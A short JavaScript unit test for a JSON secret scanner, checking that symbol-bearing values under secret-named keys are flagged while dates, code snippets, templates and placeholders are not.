test("under a secret's name, a value with symbols is a secret; code, dates and templates are not", () => {
  for (const v of ["development#product", "django-insecure-_du9e^cmago!%(^+=gr@cu@v9-v7u", "s3cr3t!Value"]) {
    assert.ok(scanJson(JSON.stringify({ jwt_secret: v })).pii.has("secret"), v);
  }
  for (const [k, v] of [["access_token_expires_at", "2026-01-01T00:00:00Z"], ["secretKey", "Uint8Array):"], ["getAuthToken", "require('registry-auth-token')"],
    ["oauth_token", "req_data.oauth_token})"], ["client_secret", "${CLIENT_SECRET}"], ["api_key", "<your-api-key>"], ["secret", "my-tls-secret"]]) {
    assert.ok(!scanJson(JSON.stringify({ [k]: v })).pii.has("secret"), `${k}: ${v}`);
  }
});
